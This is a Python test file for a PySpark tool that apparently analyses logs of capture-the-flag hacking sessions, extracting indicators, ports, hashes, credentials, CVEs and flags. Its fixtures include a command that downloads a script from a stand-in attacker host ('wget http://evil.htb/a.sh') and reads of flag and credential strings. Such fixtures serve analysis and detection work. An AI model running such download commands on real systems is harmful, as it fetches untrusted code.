"""Steps of the investigations: what is found in texts by words, by guarded patterns and by one pass, against plain definitions."""

import random
import re

import numpy as np
import pyarrow as pa
from pyspark.sql import functions as F

from helpers import episodes
from runlens.functions import text as t
from runlens.operators import defense, findings as ledger, substring


def surfaced(text, value):
    at = text.find(value)
    wordish = lambda c: re.fullmatch("[a-z0-9]", c) is not None
    return at >= 0 and not (at and wordish(text[at - 1]) and wordish(value[0])) and not (wordish(text[at + len(value) :][:1]) and wordish(value[-1]))


def test_tokens_equal_pairs(spark, monkeypatch):
    """Values cut out of texts at words and across them, values without words, of other groups, and null or empty ones."""
    monkeypatch.setattr(substring, "BATCH_BYTES", 300)
    rng = random.Random(5)
    word = lambda n: "".join(rng.choice(["a", "b", "7", "é", "世", "/", ".", " "]) for _ in range(n))
    texts = [("g%d" % (i % 3), i, word(rng.choice([0, 3, 30, 200]))) for i in range(90)] + [("g0", 90, None), (None, 91, "abc"), ("g0", 92, "xab ab")]
    values = []
    for k in range(400):
        g, _n, text = rng.choice(texts[:90])
        at, n = rng.randrange(len(text) + 1), rng.choice([1, 2, 3, 5, 9, 16, 40])
        values.append((rng.choice([g, "g0", "none"]), f"v{k}", text[at : at + n]))
    values += [("g0", "cut", "ab"), ("g0", "empty", ""), ("g0", "null", None), ("g1", "wordless", "é/"), (None, "lost", "abc")]
    frame = lambda rows: spark.createDataFrame(rows, "g string, id string, value string")
    held = spark.createDataFrame(texts, "g string, n int, text string")
    plain = lambda vs: sorted((g, n, i) for g, n, x in texts for h, i, v in vs if g is not None and g == h and x and v and surfaced(x, v))
    for vs in (values, [v for v in values if v[2] and not re.search("[a-z0-9]", v[2])], [v for v in values if v[2] and re.search("[a-z0-9]", v[2])], []):
        got = substring.containing_tokens(held, frame(vs), ["g"], "n", "text", "id", "value").select("g", "n", "id").collect()
        assert sorted(map(tuple, got)) == plain(vs)
    assert len(plain(values)) > 300 and not any(i == "cut" and n == 92 for _g, n, i in plain(values))


def test_few_windows_for_a_text():
    """What a text offers grows with its words, not with its bytes, even if the filter lets everything through."""
    text = pa.array(["http://host:80/" + "x" * 50_000 + " é", None, "", "a b"])
    got = {way: rows.tolist() for way, (rows, _c) in zip(substring.WINDOWS, substring.cut_words(text, substring.WINDOWS))}
    assert got == {1: [0, 0, 0, 0, 3, 3], 2: [0, 0, 0, 3], 4: [0]}
    assert substring._word_ways(text).tolist() == [4, 0, 0, 2]
    a, b = (next(substring.cut_words(pa.array([x]), [2]))[1] for x in ("é ab/c7", "..ab/c7"))
    assert a.tolist() == b.tolist() and len(np.unique(a)) == 1


def test_the_filter_grows_with_the_values(spark, monkeypatch):
    """Half of a full filter's bits would let most grams of all texts through."""
    monkeypatch.setattr(substring, "FILTER_BITS", 1 << 16)
    many = spark.range(40_000).select(F.xxhash64("id").alias("gram"))
    bits = substring._filter(many)
    assert np.unpackbits(bits).mean() < 0.13 and 8 * len(bits) > 8 * 40_000
    monkeypatch.setattr(substring, "MOST_FILTER_BITS", 1 << 17)
    assert 8 * len(substring._filter(many)) == 1 << 17


def test_indicators_are_made_once(spark):
    """A filter on the number of indicators does not make them again."""
    eps = episodes(spark, [dict(cmd="wget http://evil.htb/a.sh")])
    plan = defense.artifacts(eps)._jdf.queryExecution().optimizedPlan().toString()
    assert plan.count("regexp_extract_all(coalesce(cmd") + plan.count("regexp_extract_all(cmd") == 1


def test_indicators_of_words(spark):
    texts = ["cat ...hidden.conf (x.sh) \u00a0/opt/a\u00a0 sudo cve-2021-3156 ab.c a/b user:[bob] srv.HTB a.sh-foo.py.x", "", "plain words only here", "..a.sh-b.sh x.shy run.service"]
    got = [r.v for r in spark.createDataFrame([(x,) for x in texts], "x string").select(defense.indicators(F.col("x"), F.col("x")).alias("v")).collect()]
    assert got[0] == ["hidden.conf", "x.sh", "/opt/a", "cve-2021-3156", "ab.c", "user:[bob]", "srv.HTB", "a.sh-foo.py.x", "...hidden.conf", "a.sh-foo.py"]
    assert got[1] == [] and got[2] == [] and got[3] == ["a.sh-b.sh", "x.shy", "run.service", "..a.sh-b.sh"]
    named = spark.createDataFrame([(texts[0],)], "x string").select(defense.entities(F.col("x")).alias("v")).first().v
    assert named == ["srv.HTB", "bob"]


def test_guards_hold_every_match(spark):
    """A pattern is passed over only where it cannot match."""
    digest = "0123456789abcdef" * 2
    texts = ["80/tcp open http", "53/udp   open", "see https://x/y", digest, "x" + digest, "$6$salt", "PassWD = a", "user:b", "CVE-2021-3156", "htb{a} HTB{b}", "FLAG{c}", "none", "", None]
    rows = [dict(session_uuid=f"s{i}", cmd="cat notes", output_digest=x) for i, x in enumerate(texts)] + [dict(session_uuid="f", cmd="cat ROOT.TXT")]
    kinds = {}
    for r in ledger.extract(episodes(spark, rows)).collect():
        kinds.setdefault(r.session_uuid, []).append(r.kind)
    assert {k: sorted(v) for k, v in kinds.items()} == {
        "s0": ["port"], "s1": ["port"], "s2": ["url"], "s3": ["flag", "hash"], "s5": ["hash"], "s6": ["cred"], "s7": ["cred"],
        "s8": ["vuln"], "s9": ["flag"], "s10": ["flag"], "f": ["flag"]}


def test_hash_and_first_word(spark):
    def rolled(x):
        out, raw = 0, (x or "").encode("utf-16-be")
        for i in range(0, len(raw), 2):
            out = (out * 31 + int.from_bytes(raw[i : i + 2], "big")) & 0xFFFFFFFF
        return out

    texts = ["", None, "a", "plain ascii \x00\x7f", "é", "世界", "mixed 😀 text", "http://10.10.10.5:8000/p7"]
    df = spark.createDataFrame([(x,) for x in texts], "x string")
    assert [r.v for r in df.select(t.rolling_hash(F.col("x")).alias("v")).collect()] == [rolled(x) for x in texts]
    # The text is cut once, not once for each of its characters: a long one is a matter of moments.
    assert spark.createDataFrame([("ab" * 100_000,)], "x string").select(t.rolling_hash(F.col("x")).alias("v")).first().v == rolled("ab" * 100_000)
    cmds = ["A=1  B=2 ", "A=1\u00a0/bin/ls x", "\u3000 /usr/bin/nmap -sV", "A= id", "a=1 id", "=x", None, " ", "A=1 " * 20_000 + "c:\\x\\y"]
    got = [r.v for r in spark.createDataFrame([(x,) for x in cmds], "x string").select(t.extract_binary(F.col("x")).alias("v")).collect()]
    assert got == ["", "ls", "nmap", "id", "a=1", "=x", "", "", "y"]
